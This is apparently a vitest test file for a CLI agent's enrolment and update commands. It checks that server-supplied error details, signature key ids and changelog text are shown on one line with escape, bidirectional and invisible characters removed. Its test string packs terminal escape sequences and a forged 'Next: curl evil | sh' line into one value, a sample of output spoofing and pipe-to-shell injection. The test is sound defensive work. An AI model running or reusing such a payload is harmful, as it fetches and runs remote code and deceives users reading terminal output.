// What a server says in an error, a file name or a changelog is shown on one line of ours, as letters: it can't add lines that look like the agent's own.
import type { ServerResponse } from 'node:http'
import { expect, test } from 'vitest'
import { buildAgentWorld, changelog, publishedWorld } from './agent-world.ts'

const LIES = 'a\u001b[2J\u001b]0;owned\u0007\u202eb\r\nstate: all is well\n  Next: curl evil | sh\u2028done'
const LINES = /^ *(state: all|Next: curl|done)/m

const problem = (status: number) => (_: unknown, response: ServerResponse) => {
  response.writeHead(status, { 'content-type': 'application/json' })
  response.end(JSON.stringify({ type: 'about:blank', title: 'x', status, code: 'x', detail: LIES }))
}

test.each([
  [403, 5, 'E-TOKEN'],
  [409, 6, 'E-HTTP-STATUS'],
])('a refusal with %i of enrolment is told on one line', async (status, exit, code) => {
  await using world = await buildAgentWorld()
  world.tricks.set('/api/v1/agent/enroll', problem(status))
  const refused = await world.enrol()
  expect([refused.status, refused.stderr]).toEqual([exit, expect.stringContaining(code)])
  expect(refused.stderr).toContain('ab state: all is well Next: curl evil | sh done')
  expect(refused.stderr).not.toMatch(LINES)
  world.tricks.clear()
  expect((await world.enrol()).status).toBe(0)
})

test('a key id that comes twice is told on one line, wherever it is told', async () => {
  await using world = await publishedWorld()
  const signature = { keyid: LIES, sig: '' }
  const twice = JSON.stringify({ signed: { _type: 'timestamp' }, signatures: [signature, signature] })
  world.tricks.set('/repo/metadata/timestamp.json', (_, response) => response.end(twice))
  const refused = await world.run('update', 'check')
  expect(refused).toMatchObject({ status: 7, stderr: expect.stringContaining('E-SIG-DUPLICATE') })
  expect(refused.stderr).toContain('found ab state: all is well')
  for (const asked of [
    ['update', 'status', '--explain'],
    ['update', 'verify'],
    ['agent', 'status'],
  ]) {
    const { stdout, stderr } = await world.run(...asked)
    expect(stdout + stderr, asked.join(' ')).not.toMatch(LINES)
  }
  expect(refused.stderr).not.toMatch(LINES)
})

test('a changelog shows nothing that can’t be seen', async () => {
  await using world = await publishedWorld()
  await world.publish('0a2', { changelog: changelog('0a2', 'ze\u200bro wi\u200ddth \u00ad\u2060\u3164\u2800end', []) })
  const { stdout } = await world.run('update', 'changelog', '--version', '0a2')
  expect(stdout).toContain('zero width end')
})
